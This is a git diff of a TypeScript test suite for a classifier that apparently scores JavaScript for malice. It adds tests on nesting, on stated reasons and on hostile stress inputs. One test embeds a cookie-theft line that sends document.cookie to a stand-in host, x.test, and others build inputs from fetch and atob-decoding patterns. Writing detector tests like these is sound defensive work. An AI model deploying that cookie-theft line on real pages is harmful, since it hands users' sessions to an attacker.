@@ -5,7 +5,7 @@ import { families, features } from './features/features.ts';
 import { base64 } from './samples/hiding.ts';
 import { maliciousSamples } from './samples/malicious-samples.ts';
 import { classifyScript } from './script-classifier.ts';
-import { MALICIOUS_BELOW, MOST_SCRIPT_BYTES } from './script-verdict.ts';
+import { MALICIOUS_BELOW, MOST_SCRIPT_BYTES, reasonsOf } from './script-verdict.ts';
 
 function scored(code: string) {
   const verdict = classifyScript(code);
@@ -115,11 +115,32 @@ describe('script classifier: answers', () => {
     assert.equal(kindOf(`/*${'ä'.repeat(MOST_SCRIPT_BYTES / 2)}*/`), 'too-large');
   });
 
-  it('gives no scores for what is no script or is nested too deeply', () => {
-    assert.equal(classifyScript('<html></html>').kind, 'not-javascript');
-    assert.equal(classifyScript('{"imports":{}}').kind, 'not-javascript');
-    assert.equal(classifyScript('['.repeat(100_000)).kind, 'too-deep');
+  it('gives no scores for what is no script, and says why', () => {
+    for (const text of ['<html></html>', '{"imports":{}}', '['.repeat(100_000)]) {
+      const verdict = classifyScript(text);
+      assert.equal(verdict.kind, 'not-javascript');
+      const [reason] = reasonsOf(verdict);
+      assert.equal(reason?.id, 'not-javascript');
+      assert.match(reason?.what ?? '', /^Could not be judged: \w/);
+    }
   });
+
+  const nests: Readonly<Record<string, (code: string) => string>> = {
+    'beside arrays in arrays': (code) => `${code};${'['.repeat(1100)}${']'.repeat(1100)}`,
+    'beside parentheses': (code) => `${code};${'('.repeat(1900)}1${')'.repeat(1900)}`,
+    'beside nested functions': (code) =>
+      `${code};${'(function(){'.repeat(300)}${'})()'.repeat(300)}`,
+    'in nested functions': (code) => `${'(function(){'.repeat(300)}${code}${'})()'.repeat(300)}`,
+    'in nested blocks': (code) => `${'{'.repeat(1500)}${code}${'}'.repeat(1500)}`,
+    'beside an assignment to a call': (code) => `${code};if(0){f()=1}`,
+  };
+  for (const [where, nest] of Object.entries(nests)) {
+    it(`judges code ${where} as it judges the code alone`, () => {
+      const theft = `new Image().src = '//x.test/?' + document.cookie;`;
+      assert.ok(scored(nest(theft)).scores.integrity <= scored(theft).scores.integrity);
+      assert.ok(scored(nest('a();')).scores.integrity >= MALICIOUS_BELOW);
+    });
+  }
 
   it('is the same every time', () => {
     for (const { code } of maliciousSamples) {
@@ -129,7 +150,7 @@ describe('script classifier: answers', () => {
 });
 
 describe('script classifier: hostile texts', () => {
-  const fill = (piece: string): string => piece.repeat(Math.floor(300_000 / piece.length));
+  const fill = (piece: string): string => piece.repeat(Math.floor(290_000 / piece.length));
   const hostile: Readonly<Record<string, string>> = {
     'one name': fill('a'),
     'one text': `'${fill('a')}'`,
@@ -147,19 +168,20 @@ describe('script classifier: hostile texts', () => {
     'one array of texts and many lookups': `var t=[${`'a',`.repeat(20_000)}];${'f(t[9]);'.repeat(20_000)}`,
     'lists that grow': `var a='${'x'.repeat(1000)}';${Array.from({ length: 8000 }, (_, at) => `var b${at}=a+a;`).join('')}`,
     'texts that double': `var a0='xx';${Array.from({ length: 5000 }, (_, at) => `var a${at + 1}=a${at}+a${at};`).join('')}`,
-    'many script elements': `document.write('${fill('<script>').slice(0, 290_000)}')`,
-    'a pattern with many groups': `/${fill('(?<a>b)|').slice(0, 290_000)}c/`,
-    'many holes': `[${fill(',').slice(0, 290_000)}]=a`,
-    'many senders': fill('fetch(a)||'.concat('')).concat('b'),
+    'many script elements': `document.write('${fill('<script>')}')`,
+    'a pattern with many groups': `/${fill('(?<a>b)|')}c/`,
+    'many holes': `[${fill(',')}]=a`,
+    'many senders': `${fill('fetch(a)||')}b`,
     'many writers': fill('document.write(atob(a));'),
     'many decoders': fill('String.fromCharCode(a^1);'),
-    'many cases': `switch(a){${fill('case 1:')}}`.slice(0, 300_000),
+    'many cases': `switch(a){${fill('case 1:')}}`,
     'many arguments': `f(${fill('a,')})`,
     'nested functions that call each other': `${Array.from({ length: 5000 }, (_, at) => `function f${at}(a){return f${(at * 7) % 5000}(a+f${(at * 3) % 5000}(a))}`).join('')}`,
   };
   for (const [what, code] of Object.entries(hostile)) {
-    it(`answers to ${what}`, () => {
-      assert.match(classifyScript(code).kind, /^(?:scored|too-large|too-deep|not-javascript)$/);
+    it(`judges ${what}`, () => {
+      assert.ok(code.length > 50_000, 'long enough to take its time');
+      assert.equal(classifyScript(code).kind, 'scored');
     });
   }
 
